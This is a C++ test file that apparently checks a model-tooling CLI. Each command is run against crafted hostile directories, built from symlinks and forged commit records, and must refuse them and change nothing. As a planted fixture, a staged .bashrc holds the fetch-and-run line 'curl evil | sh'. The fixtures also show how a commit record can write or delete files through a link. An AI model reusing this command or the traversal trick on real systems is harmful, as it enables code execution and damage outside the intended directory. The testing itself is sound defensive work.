// A downloaded model or scenario never reaches outside itself (docs/output-safety.md, "Nothing
// outside the directory"): the probe's reproducers, run through every command that reads or
// writes a directory. A corpus of hostile directories built here (links, crafted commit records
// and markers), each checked against a snapshot of a victims folder beside it.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <map>
#include <nlohmann/json.hpp>

#include "attnres/atomic_file.hpp"
#include "attnres/output_dir.hpp"
#include "cli_support.hpp"

namespace attnres {
// Named, not anonymous: the suites are unity builds (tests/CMakeLists.txt).
namespace test_hostile_directories {

namespace fs = std::filesystem;
using test::CliRun;
using test::run_cli;

// Everything below `directory`, links as links: two of these compare "nothing changed".
std::map<std::string, std::string> tree(const fs::path& directory) {
  std::map<std::string, std::string> all;
  for (const auto& entry : fs::recursive_directory_iterator(directory)) {
    const std::string name = entry.path().lexically_relative(directory).generic_string();
    all[name] = entry.is_symlink()     ? "-> " + fs::read_symlink(entry.path()).string()
                : entry.is_directory() ? std::string("/")
                                       : read_file(entry.path());
  }
  return all;
}

const std::vector<std::string> kModelFlags = {"--layers", "1",   "--d-model", "8",
                                              "--heads",  "2",   "--ffn",     "8",
                                              "--vocab",  "256", "--mode",    "full"};

void make_model(const fs::path& out) {
  std::vector<std::string> args = {"init-model", "--out", out.string()};
  args.insert(args.end(), kModelFlags.begin(), kModelFlags.end());
  const CliRun made = run_cli(args);
  ASSERT_EQ(made.status, 0) << made.err;
}

// The probe's directory: a working model, `lnk -> ../victims`, and a commit record that moves a
// staged .bashrc through the link, removes lnk/v.txt and the folder lnk/vdir. `in_place`: the
// record names the staging folder's real device and inode (as if written here), so that the
// link check is what refuses it; otherwise the ids of another machine (a download).
void make_hostile(const fs::path& dir, bool in_place) {
  fs::create_directories(dir / "victims/vdir");
  write_file_atomically(dir / "victims/v.txt", "mine");
  write_file_atomically(dir / "victims/vdir/w.txt", "mine too");
  make_model(dir / "evil");
  const fs::path staging = dir / "evil/.attnres-staging.4242.0";
  fs::create_directories(staging / "lnk");
  write_file_atomically(staging / "lnk/.bashrc", "curl evil | sh");
  fs::create_directory_symlink("../victims", dir / "evil/lnk");
  struct stat st {};
  ASSERT_EQ(::lstat(staging.c_str(), &st), 0);
  const nlohmann::json id =
      in_place ? nlohmann::json{st.st_dev, st.st_ino} : nlohmann::json{2049, 1234567};
  const nlohmann::json record = {
      {"owner", "model"},
      {"staging", staging.filename().string()},
      {"staging_id", id},
      {"files", {"lnk/.bashrc"}},
      {"remove", {"lnk/v.txt"}},
      {"directories", {"lnk/vdir"}},
      {"sets", {{"model", {"config.json", "model.safetensors", "lnk/.bashrc"}}}}};
  write_file_atomically(dir / "evil/.attnres-commit.json", record.dump());
}

// Every command that reads a model directory or writes one: each works on a plain model (so
// the arguments are right), then on the hostile one fails with status 1 and changes nothing,
// neither outside the directory nor in it.
TEST(HostileDirectories, NoCommandWritesOrRemovesThroughALinkOrChangesWhatItReads) {
  for (const bool in_place : {false, true}) {
    test::TempDir dir;
    make_hostile(dir.path(), in_place);
    make_model(dir / "good");
    write_file_atomically(dir / "data.txt", std::string(400, 'a'));
    const std::string evil = (dir / "evil").string();
    const std::string good = (dir / "good").string();
    const std::vector<std::vector<std::string>> reading = {
        {"inspect", "MODEL"},
        {"forward", "--model", "MODEL", "--tokens", "1 2 3"},
        {"read", "--model", "MODEL", "--tokens", "1 7 12 5", "--token", "1", "--read", "1"},
        {"bench", "forward", "--model", "MODEL", "--seq", "4", "--repeat", "1"},
        {"export", "--model", "MODEL", "--format", "lab", "--out", (dir / "exported").string()},
        {"train", "--model", "MODEL", "--data", (dir / "data.txt").string(), "--steps", "1",
         "--seq", "2", "--batch", "1", "--out", (dir / "trained").string()},
    };
    const auto victims = tree(dir / "victims");
    const auto before = tree(dir / "evil");
    for (const auto& command : reading) {
      std::vector<std::string> on_good = command, on_evil = command;
      std::replace(on_good.begin(), on_good.end(), std::string("MODEL"), good);
      std::replace(on_evil.begin(), on_evil.end(), std::string("MODEL"), evil);
      const CliRun fine = run_cli(on_good);
      ASSERT_EQ(fine.status, 0) << command[0] << ": " << fine.err;
      const CliRun run = run_cli(on_evil);
      EXPECT_EQ(run.status, cli::kExitFailure) << command[0] << ": " << run.err;
      EXPECT_NE(run.err.find("was interrupted"), std::string::npos) << command[0] << run.err;
      EXPECT_NE(run.err.find("attnres recover"), std::string::npos) << command[0] << run.err;
      EXPECT_EQ(tree(dir / "victims"), victims) << command[0];
      EXPECT_EQ(tree(dir / "evil"), before) << command[0];
      fs::remove_all(dir / "exported");
      fs::remove_all(dir / "trained");
    }
    // Writers (and `recover`) complete records: this one is refused, and nothing changes.
    std::vector<std::string> init = {"init-model", "--out", evil, "--force"};
    init.insert(init.end(), kModelFlags.begin(), kModelFlags.end());
    std::vector<std::string> sweep = test::sweep_args("io", evil, "1,2");
    sweep.push_back("--force");
    const std::vector<std::vector<std::string>> writing = {{"recover", evil}, init, sweep};
    for (const auto& command : writing) {
      const CliRun run = run_cli(command);
      EXPECT_EQ(run.status, cli::kExitFailure) << command[0] << ": " << run.err;
      EXPECT_NE(run.err.find(in_place ? "passes through lnk, a symbolic link"
                                      : "not the one its writer made"),
                std::string::npos)
          << command[0] << ": " << run.err;
      EXPECT_NE(run.err.find("changed nothing"), std::string::npos) << run.err;
      EXPECT_EQ(tree(dir / "victims"), victims) << command[0];
      EXPECT_EQ(tree(dir / "evil"), before) << command[0];
    }
  }
}

// `attnres recover` completes a real interrupted write (and readers then read it).
TEST(HostileDirectories, RecoverCompletesAnInterruptedWriteThatReadersRefuse) {
  test::TempDir dir;
  make_model(dir / "m");
  // A write of a new config.json cut short after its record: staged, recorded, nothing moved.
  const fs::path staging = dir / "m/.attnres-staging.99.0";
  fs::create_directories(staging);
  const std::string config = read_file(dir / "m/config.json");
  write_file_atomically(staging / "config.json", config);
  struct stat st {};
  ASSERT_EQ(::lstat(staging.c_str(), &st), 0);
  const nlohmann::json record = {{"owner", "model"},
                                 {"staging", staging.filename().string()},
                                 {"staging_id", {st.st_dev, st.st_ino}},
                                 {"files", {"config.json"}},
                                 {"remove", nlohmann::json::array()},
                                 {"directories", nlohmann::json::array()},
                                 {"sets", {{"model", {"config.json", "model.safetensors"}}}}};
  write_file_atomically(dir / "m/.attnres-commit.json", record.dump());
  const auto before = tree(dir / "m");
  EXPECT_EQ(run_cli({"inspect", (dir / "m").string()}).status, cli::kExitFailure);
  EXPECT_EQ(tree(dir / "m"), before);
  const CliRun recovered = run_cli({"recover", (dir / "m").string()});
  ASSERT_EQ(recovered.status, 0) << recovered.err;
  EXPECT_NE(recovered.err.find("completed the interrupted write of 'model'"), std::string::npos)
      << recovered.err;
  EXPECT_FALSE(fs::exists(dir / "m/.attnres-commit.json"));
  EXPECT_FALSE(fs::exists(staging));
  EXPECT_EQ(run_cli({"inspect", (dir / "m").string()}).status, 0);
  const CliRun again = run_cli({"recover", (dir / "m").string()});
  EXPECT_EQ(again.status, 0);
  EXPECT_NE(again.out.find("nothing to recover"), std::string::npos) << again.out;
}

// --force keeps every file a command reads: a model directory inside --out, and every file the
// scenario names (its hardware file, calibration table and training data), not only the
// scenario itself.
TEST(HostileDirectories, ForceKeepsEveryInput) {
  test::TempDir dir;
  make_model(dir / "out/m");
  const auto model = tree(dir / "out/m");
  const CliRun exported = run_cli({"export", "--model", (dir / "out/m").string(), "--format", "lab",
                                   "--out", (dir / "out").string(), "--force"});
  ASSERT_EQ(exported.status, 0) << exported.err;
  EXPECT_EQ(tree(dir / "out/m"), model);
  const CliRun trained = run_cli({"train", "--model", (dir / "out/m").string(), "--data",
                                  (dir / "out/m/config.json").string(), "--steps", "1", "--seq",
                                  "2", "--batch", "1", "--out", (dir / "out").string(), "--force"});
  ASSERT_EQ(trained.status, 0) << trained.err;
  EXPECT_EQ(tree(dir / "out/m"), model);

  const fs::path study = dir / "study";
  fs::create_directories(study);
  const std::string scenarios = ATTNRES_SCENARIOS_DIR;
  fs::copy_file(scenarios + "/../resources/hardware/h100.toml", study / "gpu.toml");
  fs::copy_file(scenarios + "/../resources/calibration/public-measurements.toml",
                study / "points.toml");
  write_file_atomically(study / "s.toml",
                        "sections = [\"io\", \"calibration\"]\n[model]\nsublayers = 8\n"
                        "d_model = 16\nblocks = 2\n[hardware]\nfile = \"gpu.toml\"\n"
                        "[calibration]\ntable = \"points.toml\"\n");
  write_file_atomically(study / "notes.txt", "not an input");
  const auto gpu = read_file(study / "gpu.toml");
  const auto points = read_file(study / "points.toml");
  const CliRun report =
      run_cli({"report", (study / "s.toml").string(), "--out", study.string(), "--force"});
  ASSERT_EQ(report.status, 0) << report.err;
  EXPECT_EQ(read_file(study / "gpu.toml"), gpu);
  EXPECT_EQ(read_file(study / "points.toml"), points);
  EXPECT_TRUE(fs::exists(study / "s.toml"));
  EXPECT_FALSE(fs::exists(study / "notes.txt"));
  EXPECT_TRUE(fs::exists(study / "report.md"));
}

// train's run lock beside --out (PARENT/.NAME.attnres-train.lock) planted as a link: refused, the
// file it points to untouched (the lock writes its pid into the file it opens).
TEST(HostileDirectories, TrainNeverWritesItsLockThroughALink) {
  test::TempDir dir;
  write_file_atomically(dir / "victim.txt", "mine");
  write_file_atomically(dir / "data.txt", std::string(400, 'a'));
  fs::create_directories(dir / "evil");
  fs::create_symlink(dir / "victim.txt", dir / "evil/.run.attnres-train.lock");
  const CliRun run =
      run_cli(test::tiny_train_args(dir / "data.txt", dir / "evil/run", /*steps=*/1, /*batch=*/1));
  EXPECT_EQ(run.status, cli::kExitFailure) << run.err;
  EXPECT_NE(run.err.find("never writes through one"), std::string::npos) << run.err;
  EXPECT_EQ(read_file(dir / "victim.txt"), "mine");
  EXPECT_FALSE(fs::exists(dir / "evil/run"));
}

}  // namespace test_hostile_directories
}  // namespace attnres
